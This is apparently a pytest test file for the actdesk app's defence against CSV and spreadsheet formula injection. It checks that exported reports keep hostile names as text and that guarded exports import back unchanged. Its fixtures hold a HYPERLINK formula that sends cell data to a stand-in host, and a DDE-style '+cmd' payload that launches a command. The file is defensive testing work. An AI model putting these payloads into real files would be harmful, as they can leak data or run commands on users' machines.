"""A household named like a spreadsheet formula stays text in every export (OWASP CSV injection), and
actdesk's own book import reads its guarded export back unchanged."""

from __future__ import annotations

import csv
import shutil
import sqlite3
import zipfile
from pathlib import Path

import pytest
from tests.reliability.conftest import cli_demo

from actdesk.cli import main
from actdesk.services.cell_guard import ExportSettings, guard, unguard
from actdesk.settings import load_settings, save_settings

EVIL = '=HYPERLINK("http://x.example/?d="&B5,"click")'
PLUS = "+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def evil_source(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = cli_demo(tmp_path_factory, "--households", "15", "--seed", "2", "--as-of", "2026-06-30")
    conn = sqlite3.connect(db)
    with conn:
        conn.execute("UPDATE households SET name = ?", (EVIL,))  # whichever the report shows
        conn.execute("UPDATE contacts SET last_name = ? WHERE id = (SELECT min(id) FROM contacts)", (PLUS,))
    conn.close()
    return db


@pytest.fixture
def evil_book(evil_source: Path, tmp_path: Path) -> Path:
    """Each test's own copy of the module's book (made once: the demo was most of each test's CPU)."""
    db = tmp_path / "book.db"
    shutil.copyfile(evil_source, db)
    return db


def test_guard_rules() -> None:
    for text in ("=1+1", "+x", "-x+1", "@SUM(A1)", "\tx", "\rx", EVIL):
        assert guard(text) == "'" + text and unguard(guard(text)) == text
    for text in ("Smith", "-12.50", "+1 (555) 010-0100", "2026-06-30", "'quoted'", ""):
        assert guard(text) == text and unguard(text) == text


@pytest.mark.parametrize("report", ["stack-ranking", "fee-revenue", "aging", "pipeline"])
def test_xlsx_reports_hold_no_formula(evil_book: Path, tmp_path: Path, report: str) -> None:
    out = tmp_path / f"{report}.xlsx"
    assert main(["--db", str(evil_book), "report", report, "--as-of", "2026-06-30", "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)
    if report == "stack-ranking":
        assert any("=HYPERLINK(" in sheet for sheet in sheets)  # the name is there, as text


def test_csv_exports_quote_formula_text(evil_book: Path, tmp_path: Path) -> None:
    report = tmp_path / "ranking.csv"
    assert (
        main(
            ["--db", str(evil_book), "report", "stack-ranking", "--as-of", "2026-06-30", "--out", str(report)]
        )
        == 0
    )
    cells = [c for row in csv.reader(report.open(encoding="utf-8-sig")) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    assert not any(c.startswith(("=", "@")) for c in cells)
    contacts = tmp_path / "contacts.csv"
    assert main(["--db", str(evil_book), "export", "contacts", str(contacts)]) == 0
    cells = [c for row in csv.reader(contacts.open(encoding="utf-8-sig")) for c in row]
    assert not any(c.startswith(("=", "+", "@")) and not c[1:2].isdigit() for c in cells)


def test_book_round_trip_gives_back_the_names_unchanged(evil_book: Path, tmp_path: Path) -> None:
    folder = tmp_path / "export"
    assert main(["--db", str(evil_book), "export-book", str(folder)]) == 0
    assert "'" + EVIL in (folder / "households.csv").read_text(encoding="utf-8").replace('""', '"')
    copy = tmp_path / "copy.db"
    assert main(["--db", str(copy), "import-book", str(folder)]) == 0
    conn = sqlite3.connect(copy)
    names = {r[0] for r in conn.execute("SELECT name FROM households")}
    last = {r[0] for r in conn.execute("SELECT last_name FROM contacts")}
    conn.close()
    assert EVIL in names and PLUS in last


def test_the_guard_can_be_turned_off(evil_book: Path, tmp_path: Path) -> None:
    settings = load_settings()
    settings.set_section(ExportSettings(csv_formula_guard=False))
    save_settings(settings)
    folder = tmp_path / "export"
    assert main(["--db", str(evil_book), "export-book", str(folder)]) == 0
    rows = list(csv.DictReader((folder / "households.csv").open(encoding="utf-8")))
    assert EVIL in {r["name"] for r in rows}


def test_a_nul_in_an_imported_cell_is_refused(
    evil_book: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "export"
    assert main(["--db", str(evil_book), "export-book", str(folder)]) == 0
    text = (folder / "households.csv").read_text(encoding="utf-8")
    lines = text.splitlines()
    lines[1] = lines[1].replace(",", ",Nul\x00Name", 1).replace(",Nul\x00Name", ",", 1)
    header = lines[0].split(",")
    cells = next(csv.reader([lines[1]]))
    cells[header.index("name")] = "Nul\x00Name"
    out = tmp_path / "bad"
    out.mkdir()
    with (out / "households.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(header)
        writer.writerow(cells)
    capsys.readouterr()
    assert main(["--db", str(tmp_path / "new.db"), "import-book", str(out)]) == 2
    assert "NUL" in capsys.readouterr().err
